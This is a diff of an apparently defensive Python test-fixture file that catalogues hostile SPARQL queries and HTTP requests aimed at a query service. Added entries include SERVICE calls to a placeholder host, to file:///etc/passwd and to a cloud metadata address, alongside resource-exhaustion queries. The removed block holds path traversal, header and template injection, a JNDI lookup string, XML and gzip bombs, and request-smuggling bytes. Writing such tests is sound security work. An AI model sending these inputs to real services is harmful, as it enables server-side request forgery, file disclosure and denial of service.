@@ -1,18 +1,16 @@
-"""Attacks on the service at its HTTP door: what a stranger sends, by class.
+"""Attacks by queries: what a stranger asks, by class.
 
-``QUERIES`` go to ``/sparql`` as they are; ``REQUESTS`` are addresses, headers and bodies;
-``BYTES`` are what no HTTP library would send. What each must not do is in ``test_attacks``.
+``QUERIES`` go to ``/sparql`` as they are; addresses, headers and bodies are in
+``attack_requests``. What each must not do is in ``test_attacks``.
 """
 
 from __future__ import annotations
 
-import gzip
-from dataclasses import dataclass, field
-from urllib.parse import quote
-
 CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
 TWO = "?a ?b ?c . ?d ?e ?f"
 FORM = "application/x-www-form-urlencoded"
+XSD = "http://www.w3.org/2001/XMLSchema#"
+GRAPH = "https://w3id.org/partnering/graph/catalogue"
 
 
 def many(text: str, count: int, between: str = " ") -> str:
@@ -74,6 +72,20 @@ LENGTH = {
     "a list to be in": "SELECT * { ?s ?p ?o FILTER (?o IN (" + many("'#'", 390, ",") + ")) }",
     "arguments": "SELECT (CONCAT(" + many("'#'", 390, ",") + ") AS ?x) {}",
     "columns": "SELECT " + many("(# AS ?x#)", 390) + " {}",
+    "bases on bases": "BASE <http://e/> " + many("BASE <a#/>", 2000) + " ASK {}",
+    "a long base": "BASE <http://e/"
+    + "a/" * 9000
+    + "> "
+    + many("PREFIX p#: <../b>", 300)
+    + " ASK {}",
+    "a long way up": "BASE <http://e/"
+    + "a/" * 900
+    + "> SELECT (IRI('"
+    + "../" * 5000
+    + "x') AS ?x) {}",
+    "escapes": "ASK { ?s ?p '" + "\\u0041" * 5000 + "' }",
+    "escapes in names": "PREFIX e: <http://e/> ASK { ?s ?p e:" + "\\~" * 9000 + " }",
+    "a language": "SELECT (STRLANG('x', '" + "a-" * 9000 + "b') AS ?x) {}",
     "described things": "DESCRIBE " + many("<http://e/#>", 390),
 }
 PLANS = {
@@ -129,6 +141,15 @@ REGULAR = {
     "a back reference": matched("(a+)\\\\1+$"),
     "look-around": matched("(?=a+$)a"),
     "not a pattern": matched("(((["),
+    "a pattern of each row": f"SELECT (COUNT(*) AS ?n) {{ {TWO} FILTER REGEX(STR(?c), STR(?f)) }}",
+    "letters counted twice": "SELECT * { ?a ?b ?c FILTER REGEX(STR(?c), '(\\\\p{L}{1,500}){1,500}') }",
+    "a hundred": "SELECT * { ?a ?b ?c " + many("FILTER REGEX(STR(?c), '\\\\w{200}#')", 100) + " }",
+    "a group five thousand times": "SELECT (REPLACE(STR(?c), '(.)', '"
+    + "$1" * 5000
+    + "') AS ?x) { ?a ?b ?c }",
+    "nothing replaced": "SELECT (REPLACE(CONCAT("
+    + many("STR(?c)", 300, ",")
+    + "), '', 'xxxxxxxxxxxxxxxxxxxx') AS ?x) { ?a ?b ?c }",
     "replacing": f"SELECT (MAX(REPLACE(STR(?c), '(.*)*', '$0$0$0')) AS ?x) {{ {TWO} }}",
 }
 PATHS = {
@@ -139,6 +160,10 @@ PATHS = {
     "wide": "SELECT * { ?s (" + many("<a:#>", 60, "|") + ")* ?o }",
     "longer than the cap": "SELECT * { ?s " + many("<a:#>", 300, "/") + " ?o }",
     "maybes": "SELECT * { ?s " + many("(!<a:a>)?", 30, "/") + " ?o }",
+    "of no length": "SELECT (COUNT(*) AS ?n) { ?s <a:a>? ?o . ?t <a:b>* ?u }",
+    "there and back": "SELECT (COUNT(*) AS ?n) { ?s ((!<a:a>/^!<a:b>)*|(^!<a:c>/!<a:d>)*)* ?o }",
+    "stars in a row": "SELECT (COUNT(*) AS ?n) { ?s " + many("(!<a:a>)*", 20, "/") + " ?o }",
+    "in what does not exist": "SELECT * { ?s ?p ?o FILTER NOT EXISTS { ?o (!<a:a>|^!<a:a>)* ?s } }",
     "two at once": "SELECT (COUNT(*) AS ?n) { ?a (!<a:a>)* ?b . ?c (!<a:b>)* ?d }",
 }
 UPDATES = {
@@ -161,6 +186,23 @@ OUTWARD = {
     "service in a sub-select": "SELECT * { { SELECT * { SERVICE <http://CANARY/i> {} } } }",
     "service to a file": "SELECT * { SERVICE <file:///etc/passwd> { ?s ?p ?o } }",
     "service to metadata": "SELECT * { SERVICE <http://169.254.169.254/latest/> { ?s ?p ?o } }",
+    "service after a carriage return": "SELECT * { # x\rSERVICE <http://CANARY/x> { ?s ?p ?o } }",
+    "service after a form feed": "SELECT * {\fSERVICE <http://CANARY/x> { ?s ?p ?o } }",
+    "service after a hard space": "SELECT * {\u00a0SERVICE\u00a0<http://CANARY/x> { ?s ?p ?o } }",
+    "service after a line separator": "SELECT * { # x\u2028SERVICE <http://CANARY/x> { ?s ?p ?o } }",
+    "service after a backslash": "SELECT * { BIND ('\\\\' AS ?x) SERVICE <http://CANARY/x> { ?s ?p ?o } }",
+    "service after four quotes": 'SELECT * { BIND ("""\\"""" AS ?x) SERVICE <http://CANARY/x> { ?s ?p ?o } }',
+    "service between comparisons": "SELECT * { FILTER(1<2)SERVICE<http://CANARY/x>{?s ?p ?o}FILTER(3>2) }",
+    "service with a long s": "SELECT * { \u017fERVICE <http://CANARY/x> { ?s ?p ?o } }",
+    "service in minus": "SELECT * { ?a ?b ?c MINUS { SERVICE <http://CANARY/x> { ?a ?b ?c } } }",
+    "service in lateral": "SELECT * { ?a ?b ?c LATERAL { SERVICE ?c { ?a ?b ?c } } }",
+    "service where graphs are built": "CONSTRUCT { ?s ?p ?o } WHERE { SERVICE <http://CANARY/x> { ?s ?p ?o } }",
+    "service where things are described": "DESCRIBE ?s { SERVICE <http://CANARY/x> { ?s ?p ?o } }",
+    "service at any IRI of the data": "SELECT * { ?x ?p ?u FILTER isIRI(?u) SERVICE ?u { ?s ?q ?o } }",
+    "from by prefix": "PREFIX c: <http://CANARY/> SELECT * FROM c:x FROM NAMED c:y { ?s ?p ?o }",
+    "from relative": "SELECT * FROM <../../../etc/passwd> { ?s ?p ?o }",
+    "from other schemes": "SELECT * FROM <jar:file:///x!/y> FROM NAMED <ftp://CANARY/x> FROM <gopher://CANARY/> { ?s ?p ?o }",
+    "from nine hundred": "SELECT * " + many("FROM <a:#>", 900) + " { ?s ?p ?o }",
     "from": "SELECT * FROM <http://CANARY/j> { ?s ?p ?o }",
     "from named": "SELECT * FROM NAMED <http://CANARY/k> { GRAPH ?g { ?s ?p ?o } }",
     "from by base": "BASE <http://CANARY/> SELECT * FROM <l> { ?s ?p ?o }",
@@ -175,173 +217,80 @@ TEXT = {
     "a byte order mark": "\ufeffASK {}",
     "right to left": "ASK { ?s ?p '\u202e' } # \u202e",
     "private letters": "SELECT ?\U0010fffd {}",
+    "noncharacters": "ASK { ?s ?p '\uffff\ufdd0' }",
+    "marks upon marks": "ASK { ?s ?p '" + "e\u0301\u0301" * 5000 + "' }",
+    "surrogates by escapes": "ASK { ?s ?p '\\uD800\\uDC00 \\U00110000' }",
     "nothing": "",
     "only a comment": "# nothing",
     "another language": "SELECT * FROM users; DROP TABLE users; --",
     "markup": "<script>alert(1)</script>",
     "a template": "{{ 7*7 }} {% for x in y %}",
 }
+AGGREGATES = {
+    "by everything": f"SELECT ?a ?c ?f (GROUP_CONCAT(STR(?e)) AS ?x) {{ {TWO} }} GROUP BY ?a ?c ?f",
+    "a long separator": f"SELECT (GROUP_CONCAT(DISTINCT CONCAT(STR(?a),STR(?f)); separator='{'x' * 1000}') AS ?x) {{ {TWO} }}",
+    "distinct rows": f"SELECT (COUNT(DISTINCT *) AS ?x) {{ {TWO} }}",
+    "ninety": "SELECT "
+    + many("(COUNT(DISTINCT CONCAT(STR(?a),'#')) AS ?x#)", 90)
+    + f" {{ {TWO} }}",
+    "having": f"SELECT ?a {{ {TWO} }} GROUP BY ?a HAVING (COUNT(DISTINCT ?f) > 1 && SUM(STRLEN(STR(?f))) > 1)",
+    "of aggregates": f"SELECT (SUM(?n) AS ?m) {{ {{ SELECT ?a (COUNT(*) AS ?n) {{ {TWO} }} GROUP BY ?a }} }}",
+}
+ROWS = {
+    "values crossed": "SELECT (COUNT(*) AS ?n) { "
+    + many("VALUES ?v# { " + many("1", 40) + " }", 12)
+    + " }",
+    "values that hold nothing": "SELECT (COUNT(*) AS ?n) { VALUES (?a ?b) { "
+    + "(UNDEF UNDEF) " * 800
+    + "} VALUES (?a ?b) { "
+    + "(UNDEF 1) " * 800
+    + "} VALUES (?a ?b) { "
+    + "(1 UNDEF) " * 400
+    + "} }",
+    "a wide row": "SELECT * { VALUES (" + many("?v#", 1500) + ") { (" + many("1", 1500) + ") } }",
+    "sub-selects crossed": "SELECT DISTINCT ?a ?f { { SELECT DISTINCT ?a { ?a ?b ?c } } { SELECT DISTINCT ?f { ?d ?e ?f } } } ORDER BY ?f",
+    "lateral": "SELECT * { ?a ?b ?c LATERAL { ?d ?e ?f LATERAL { ?g ?h ?i } } }",
+    "lateral, limited": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c LATERAL { SELECT * { ?c ?e ?f . ?g ?h ?i } LIMIT 1000000 } }",
+    "sorted by sixty": f"SELECT * {{ {TWO} }} ORDER BY " + many("STR(?a) DESC(?f)", 60),
+    "sorted by what exists": f"SELECT * {{ ?a ?b ?c }} ORDER BY EXISTS {{ {CROSS} FILTER (?a = ?d) }}",
+    "bound to what exists": "SELECT * { ?a ?b ?c BIND (EXISTS { ?d ?e ?f . ?g ?h ?i FILTER (?i = CONCAT(STR(?c), 'z')) } AS ?x) }",
+    "optional, filtered": "SELECT * { ?a ?b ?c OPTIONAL { ?d ?e ?f FILTER (CONCAT(STR(?c),STR(?f)) = 'x') } }",
+    "identifiers": f"SELECT DISTINCT (UUID() AS ?u) (BNODE(STR(?f)) AS ?v) {{ {TWO} }}",
+    "offsets past counting": "SELECT * { ?a ?b ?c } LIMIT 18446744073709551615 OFFSET 18446744073709551615",
+    "a graph named by each": "SELECT (COUNT(*) AS ?n) { "
+    + many("GRAPH ?g# { ?s ?p ?o# }", 30)
+    + " }",
+    "a graph hundreds of times": "SELECT (COUNT(*) AS ?n) "
+    + f"FROM <{GRAPH}> " * 400
+    + "{ ?a ?b ?c . ?d ?e ?f }",
+}
+GRAPHS = {
+    "a wide template": "CONSTRUCT { " + many("?a <a:#> ?f .", 60) + f" }} WHERE {{ {TWO} }}",
+    "blank nodes": "CONSTRUCT { " + many("[] ?b [ ?b ?c ] .", 20) + " } WHERE { ?a ?b ?c }",
+    "lists": "CONSTRUCT { ?a ?b (" + "?c " * 60 + ") } WHERE { ?a ?b ?c }",
+    "all described": "DESCRIBE * { ?a ?b ?c }",
+    "all described, crossed": f"DESCRIBE * {{ {CROSS} }}",
+    "triple terms": f"SELECT (TRIPLE(?a, ?b, TRIPLE(?d, ?e, ?f)) AS ?t) {{ {TWO} }}",
+    "reifiers": "SELECT * { << ?s ?p << ?a ?b << ?c ?d ?e >> >> >> ?x ?y . ?z ?q << ?s ?p ?o ~ ?r >> {| ?m ?n |} }",
+}
+NUMBERS = {
+    "a long integer": "SELECT (" + "9" * 30_000 + " AS ?x) {}",
+    "a long fraction": "SELECT (0." + "9" * 30_000 + " AS ?x) {}",
+    "a long exponent": "SELECT (1e" + "9" * 30_000 + " AS ?x) {}",
+    "a long text as one": f"SELECT (<{XSD}integer>('{'9' * 30_000}') AS ?x) (<{XSD}decimal>('{'9' * 99}') AS ?y) {{}}",
+    "the least": "SELECT (-9223372036854775807 - 2 AS ?a) (-9223372036854775808 / -1 AS ?b) (ABS(-9223372036854775808) AS ?c) {}",
+    "the largest squared": "SELECT (9223372036854775807 * 9223372036854775807 AS ?a) {}",
+    "the last of days": f"SELECT (?d + 'P99999999999Y'^^<{XSD}duration> AS ?z) (?d - '-99999-01-01T00:00:00Z'^^<{XSD}dateTime> AS ?y) {{ BIND ('9999999999-12-31T23:59:59.999999999999Z'^^<{XSD}dateTime> AS ?d) }}",
+    "ages": f"SELECT (-'-P9223372036854775808M'^^<{XSD}yearMonthDuration> AS ?y) {{}}",
+    "a zone that is none": f"SELECT (TIMEZONE('2020-01-01T00:00:00+99:99'^^<{XSD}dateTime>) AS ?x) {{}}",
+    "places past the end": "SELECT (SUBSTR('é𝕏', -1e308, 1e308) AS ?x) (SUBSTR('é𝕏', 0.5, 0/0) AS ?y) {}",
+}
 QUERIES: dict[str, str] = {
     f"{family}: {name}": query
     for family, held in {
         "depth": DEPTH, "length": LENGTH, "plan": PLANS, "join": JOINS, "string": STRINGS,
-        "regex": REGULAR, "path": PATHS, "update": UPDATES, "outward": OUTWARD, "text": TEXT,
+        "regex": REGULAR, "path": PATHS, "aggregate": AGGREGATES, "row": ROWS, "graph": GRAPHS,
+        "number": NUMBERS, "update": UPDATES, "outward": OUTWARD, "text": TEXT,
     }.items()
     for name, query in held.items()
-}  # fmt: skip
-
-
-@dataclass(frozen=True)
-class Request:
-    """One request through an HTTP library."""
-
-    path: str
-    method: str = "GET"
-    body: bytes | None = None
-    headers: dict[str, str] = field(default_factory=dict)
-
-
-def post(body: bytes | str, kind: str, **headers: str) -> Request:
-    named = {name.replace("_", "-"): value for name, value in headers.items()}
-    data = body.encode() if isinstance(body, str) else body
-    return Request("/sparql", "POST", data, {"Content-Type": kind} | named)
-
-
-def page(path: str, **headers: str) -> Request:
-    return Request(path, headers={name.replace("_", "-"): value for name, value in headers.items()})
-
-
-ASK = "/sparql?query=ASK%20%7B%7D"
-QUESTION = "/questions/enablers-in-successful-partnerships"
-ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
-    f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(9)
-) + "]><x>&j;</x>"  # fmt: skip
-INJECTED = (
-    '"', "'", "\\", "}", "} UNION { ?s ?p ?o", "UNDEF } #", "<http://e/> } #", "> } SELECT * { ?s",
-    "mandated,structural", "\r\nX-Evil: 1", "%", "\0", "é" * 300, "../../etc/passwd", "{nature}",
-    "{{ 7*7 }}", "${jndi:ldap://CANARY/p}", "<script>alert(1)</script>", "any' OR '1'='1", "\U0001d54f",
-)  # fmt: skip
-REQUESTS: dict[str, Request] = {
-    **{f"parameter: {value[:20]!r}": page(f"{QUESTION}.json?nature={quote(value, safe='')}")
-       for value in INJECTED},
-    **{f"search: {value[:20]!r}": page(f"/search?q={quote(value, safe='')}")
-       for value in INJECTED[:6]},
-    "parameter: a million letters": page(f"{QUESTION}?nature={'x' * 100_000}"),
-    "parameter: the same often": page(f"{QUESTION}?" + many("nature=any", 2000, "&")),
-    "parameter: a large number": page(f"{QUESTION}?why=" + "9" * 5000),
-    "parameter: a number below none": page(f"{QUESTION}?why=-1"),
-    "parameter: a number in other digits": page(f"{QUESTION}?why=" + quote("٣")),
-    "parameter: no number": page(f"{QUESTION}?why=1e9"),
-    "parameter: every page": page(f"{QUESTION}?page=99999999"),
-    "slug: upwards": page("/questions/..%2f..%2f..%2fetc%2fpasswd.json"),
-    "slug: a file": page("/questions/%00.json"),
-    "slug: markup": page("/questions/<script>alert(1)</script>", Accept="text/html"),
-    "file: upwards": page("/assets/../../src/partnering/errors.py"),
-    "file: upwards, escaped": page("/assets/%2e%2e/%2e%2e/pyproject.toml"),
-    "file: absolute": page("/assets//etc/passwd"),
-    "file: backslashes": page("/assets/..%5c..%5cpyproject.toml"),
-    "path: long": page("/" + "x" * 60_000),
-    "path: deep": page("/a" * 20_000),
-    "path: odd bytes": page("/%ff%fe/%c0%ae%c0%ae/"),
-    "path: two slashes": page("//evil.example/%2f.."),
-    "redirect: another line": page("/sparql?query=ASK%20%7B%7D%0d%0aX-Evil:%201", Accept="text/html"),
-    "format: another line": page(ASK + "&format=json%0d%0aX-Evil:%201"),
-    "format: long": page(ASK + "&format=" + "x" * 50_000),
-    "format: upwards": page(ASK + "&format=../../etc/passwd"),
-    "dataset: outward": page(ASK + "&default-graph-uri=http://CANARY/q"),
-    "dataset: outward, named": page(ASK + "&named-graph-uri=http://CANARY/r"),
-    "dataset: a file": page(ASK + "&default-graph-uri=file:///etc/passwd"),
-    "dataset: no IRI": page(ASK + "&default-graph-uri=%3E%20%7D"),
-    "dataset: many": page(ASK + "&default-graph-uri=a:a" * 99),
-    "fields: thousands": page("/sparql?" + many("a#=1", 5000, "&")),
-    "fields: two queries": page(ASK + "&query=CLEAR+ALL"),
-    "fields: an update": page("/sparql?update=CLEAR+ALL"),
-    "text: half a character": page("/sparql?query=ASK%20%7B%7D%20%23%ED%A0%80"),
-    "text: too long a way to write": page("/sparql?query=ASK%20%7B%7D%20%23%C0%AF"),
-    "text: UTF-16": post("ASK {}".encode("utf-16"), "application/sparql-query"),
-    "text: UTF-7": post("ASK {}", "application/sparql-query; charset=utf-7"),
-    "body: too large": post("query=" + "x" * 2_000_000, FORM),
-    "body: large in escapes": post("query=" + "%20" * 60_000, FORM),
-    "body: gzip": post(gzip.compress(b"query=ASK+%7B%7D"), FORM, Content_Encoding="gzip"),
-    "body: a gzip bomb": post(gzip.compress(b"\0" * 50_000_000), FORM, Content_Encoding="gzip"),
-    "body: deflate": post(b"x\x9c", FORM, Content_Encoding="deflate"),
-    "body: gzip twice": post(gzip.compress(gzip.compress(b"x")), FORM, Content_Encoding="gzip, gzip"),
-    "body: of parts": post(b"--x\r\n" * 20_000 + b"--x--", "multipart/form-data; boundary=x"),
-    "body: parts without a mark": post(b"x" * 9999, "multipart/form-data"),
-    "body: entities": post(ENTITIES, "application/rdf+xml"),
-    "body: entities as a query": post(ENTITIES, "application/sparql-query"),
-    "body: JSON": post("[" * 50_000, "application/json"),
-    "body: JSON-LD": post('{"@context":"http://CANARY/s"}', "application/ld+json"),
-    "body: an update": post("LOAD <http://CANARY/t>", "application/sparql-update"),
-    "body: on a page": Request("/cases", "POST", b"x" * 1000, {"Content-Type": FORM}),
-    "body: on a GET": Request(ASK, "GET", b"query=CLEAR+ALL", {"Content-Type": FORM}),
-    "method: PUT": Request("/sparql", "PUT", b"x"),
-    "method: TRACE": Request("/sparql", "TRACE"),
-    "method: unknown": Request("/sparql", "BREW"),
-    "method: said in a header": page(ASK, X_HTTP_Method_Override="DELETE"),
-    "header: another host": page("/", Host="evil.example"),
-    "header: a host with an end": page("/", Host="evil.example/../"),
-    "header: forwarded": page("/", X_Forwarded_Host="evil.example", X_Forwarded_Proto="https",
-                              Forwarded="for=1.2.3.4;host=evil.example"),
-    "header: forwarded for whom": page(ASK, X_Forwarded_For="', DROP"),
-    "header: another path": page("/", X_Original_URL="/etc/passwd", X_Rewrite_URL="/admin"),
-    "header: accepts a lot": page(ASK, Accept=",".join(f"a/b{n};q=0.{n}" for n in range(5000))),
-    "header: accepts no number": page(ASK, Accept="text/csv;q=nan, */*;q=-1, x/y;q=1e999"),
-    "header: accepts nonsense": page(ASK, Accept=";;;,,,===///"),
-    "header: long": page(ASK, X_Long="x" * 100_000),
-    "header: too long": page(ASK, X_Long="x" * 200_000),
-    "header: many": page(ASK, **{f"X_{n}": "x" for n in range(90)}),
-    "header: ranges": page("/assets/site.css", Range="bytes=" + many("0-1", 3000, ",")),
-    "header: a range below none": page("/assets/site.css", Range="bytes=-99999999999999999999"),
-    "header: tags": page("/cases", If_None_Match=",".join(f'"{n}"' for n in range(5000))),
-    "header: a date": page("/assets/site.css", If_Modified_Since="Mon, 99 Foo 99999 99:99:99 GMT"),
-    "header: a cookie": page("/", Cookie="a=" + "x" * 50_000),
-    "header: a secret": page("/", Authorization="Basic " + "A" * 5000),
-    "header: upgrade": page(ASK, Connection="Upgrade, HTTP2-Settings", Upgrade="h2c"),
-    "header: expects": page(ASK, Expect="100-continue"),
-}  # fmt: skip
-
-_HEAD = b"POST /sparql HTTP/1.1\r\nHost: x\r\nContent-Type: application/sparql-query\r\n"
-_GET = b"GET /healthz HTTP/1.1\r\nHost: x\r\n"
-_SMUGGLED = b"GET /evil HTTP/1.1\r\nHost: x\r\n\r\n"
-BYTES: dict[str, bytes] = {
-    "two lengths": _HEAD + b"Content-Length: 6\r\nContent-Length: 0\r\n\r\nASK {}" + _SMUGGLED,
-    "two lengths in one": _HEAD + b"Content-Length: 6, 6\r\n\r\nASK {}",
-    "length below none": _HEAD + b"Content-Length: -6\r\n\r\nASK {}",
-    "length with a sign": _HEAD + b"Content-Length: +6\r\n\r\nASK {}",
-    "length in other digits": _HEAD + "Content-Length: ٦\r\n\r\nASK {}".encode(),
-    "length in hexadecimal": _HEAD + b"Content-Length: 0x6\r\n\r\nASK {}",
-    "length past counting": _HEAD + b"Content-Length: " + b"9" * 400 + b"\r\n\r\nASK {}",
-    "length and chunks": _HEAD + b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + _SMUGGLED,
-    "chunks": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n6\r\nASK {}\r\n0\r\n\r\n",
-    "chunks, misspelt": _HEAD + b"Transfer-Encoding: xchunked\r\n\r\n6\r\nASK {}\r\n0\r\n\r\n",
-    "chunks, then plain": _HEAD + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
-    "chunks, by a tab": _HEAD + b"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
-    "chunks, before the colon": _HEAD + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
-    "chunks without end": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\nx\r\n" * 9000,
-    "a chunk past counting": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 400 + b"\r\n",
-    "a shorter body, then another request": _HEAD + b"Content-Length: 6\r\n\r\nASK {}" + _SMUGGLED,
-    "line ends alone": _GET.replace(b"\r\n", b"\n") + b"\n",
-    "carriage returns alone": _GET.replace(b"\r\n", b"\r") + b"\r",
-    "a folded header": _GET + b"X-A: 1\r\n folded\r\n\r\n",
-    "a header without a name": _GET + b": x\r\n\r\n",
-    "a header without a colon": _GET + b"nothing\r\n\r\n",
-    "a null in a header": _GET + b"X-A: a\0b\r\n\r\n",
-    "no host": b"GET /healthz HTTP/1.1\r\n\r\n",
-    "two hosts": _GET + b"Host: evil\r\n\r\n",
-    "a whole address": b"GET http://CANARY/u HTTP/1.1\r\nHost: x\r\n\r\n",
-    "a tunnel": b"CONNECT CANARY HTTP/1.1\r\nHost: x\r\n\r\n",
-    "HTTP/0.9": b"GET /healthz\r\n\r\n",
-    "HTTP/9.9": b"GET /healthz HTTP/9.9\r\n\r\n",
-    "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
-    "no path": b"GET  HTTP/1.1\r\nHost: x\r\n\r\n",
-    "a null in the path": b"GET /\0 HTTP/1.1\r\nHost: x\r\n\r\n",
-    "spaces in the path": b"GET / / HTTP/1.1\r\nHost: x\r\n\r\n",
-    "a line without end": b"GET /" + b"x" * 300_000,
-    "headers without end": _GET + b"X: y\r\n" * 30_000,
-    "empty lines": b"\r\n" * 50_000,
-    "nulls": b"\0" * 50_000,
-    "a TLS greeting": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xaa" * 500,
-    "another protocol": b"SSH-2.0-x\r\n\r\n",
-    "a hundred at once": (_GET + b"\r\n") * 100,
 }  # fmt: skip
